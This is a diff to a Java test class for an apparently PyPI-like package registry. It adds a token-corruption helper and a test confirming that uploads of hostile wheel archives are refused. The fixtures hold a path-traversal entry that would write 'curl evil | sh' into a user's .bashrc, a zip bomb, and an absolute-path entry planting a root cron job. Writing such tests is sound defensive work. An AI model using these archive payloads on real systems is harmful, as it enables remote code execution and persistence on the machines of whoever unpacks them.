@@ -69,6 +69,12 @@ class UploadRejectionTest {
     assertThat(download.bytes()).isEqualTo(f.published());
   }
 
+  /** The token with its last (checksum) character changed, whatever it was. */
+  private static String corruptLastCharacter(String token) {
+    char last = token.charAt(token.length() - 1);
+    return token.substring(0, token.length() - 1) + (last == '0' ? '1' : '0');
+  }
+
   private static RawHttp.Response uploadWheel(Fixture f, String token, String name, String version, String filename, byte[] content) {
     return RawHttp.upload(f.server().url(), token, Uploads.wheelForm(name, version, filename, content).build());
   }
@@ -83,7 +89,7 @@ class UploadRejectionTest {
       assertRefused(f, "AuthenticationFailed", 403, "Invalid or non-existent authentication information (unknown token)",
           x -> uploadWheel(x, "pcl_u_" + "A".repeat(44) + checksumOf("pcl_u_" + "A".repeat(44)), VICTIM, "2.0.0", name, wheel));
       assertRefused(f, "AuthenticationFailed", 403, "(malformed token)",
-          x -> uploadWheel(x, x.token().substring(0, x.token().length() - 1) + "0", VICTIM, "2.0.0", name, wheel));
+          x -> uploadWheel(x, corruptLastCharacter(x.token()), VICTIM, "2.0.0", name, wheel));
       assertRefused(f, "UploadRejected", 403, "Invalid or non-existent authentication information.",
           x -> uploadWheel(x, null, VICTIM, "2.0.0", name, wheel));
       assertRefused(f, "UploadRejected", 403, "Username/Password authentication is not supported",
@@ -143,6 +149,30 @@ class UploadRejectionTest {
       }
       assertRefused(f, "UploadRejected", 400, "Release 1.0.0 of 'victim' was already released",
           x -> uploadWheel(x, x.token(), VICTIM, "1.0.0", "victim-1.0.0-py3-none-manylinux1_x86_64.whl", Uploads.wheel(VICTIM, "1.0.0")));
+    }
+  }
+
+  /** Archives that would attack whoever unpacks them: refused at upload, as PyPI refuses malformed archives. */
+  @ParameterizedTest(name = "{0}")
+  @MethodSource("dev.portcullis.testing.TestDatabases#both")
+  void refusesHostileArchives(String database) {
+    Fixture f = start(database);
+    try (TestServer server = f.server()) {
+      String name2 = Uploads.wheelName(VICTIM, "2.0.0");
+      byte[] traversal = Uploads.wheel(VICTIM, "2.0.0", VICTIM, "2.0.0",
+          Map.of("victim/../../../../home/user/.bashrc", "curl evil | sh\n".getBytes(StandardCharsets.UTF_8)));
+      assertRefused(f, "UploadRejected", 400,
+          "Invalid distribution file. an entry's path climbs out of the archive with '..' (path traversal) [victim/../../../../home/user/.bashrc]",
+          x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, traversal));
+
+      byte[] bomb = Uploads.wheel(VICTIM, "2.0.0", VICTIM, "2.0.0", Map.of("victim/zeros.bin", new byte[8 << 20]));
+      assertThat((long) bomb.length).isLessThan(MAX_FILE_BYTES);
+      assertRefused(f, "UploadRejected", 400, "Invalid distribution file. an entry inflates more than 200 times its compressed size (zip bomb)",
+          x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, bomb));
+
+      byte[] absolute = Uploads.wheel(VICTIM, "2.0.0", VICTIM, "2.0.0", Map.of("/etc/cron.d/job", "* * * * * root id\n".getBytes(StandardCharsets.UTF_8)));
+      assertRefused(f, "UploadRejected", 400, "an entry has an absolute path",
+          x -> uploadWheel(x, x.token(), VICTIM, "2.0.0", name2, absolute));
     }
   }
 
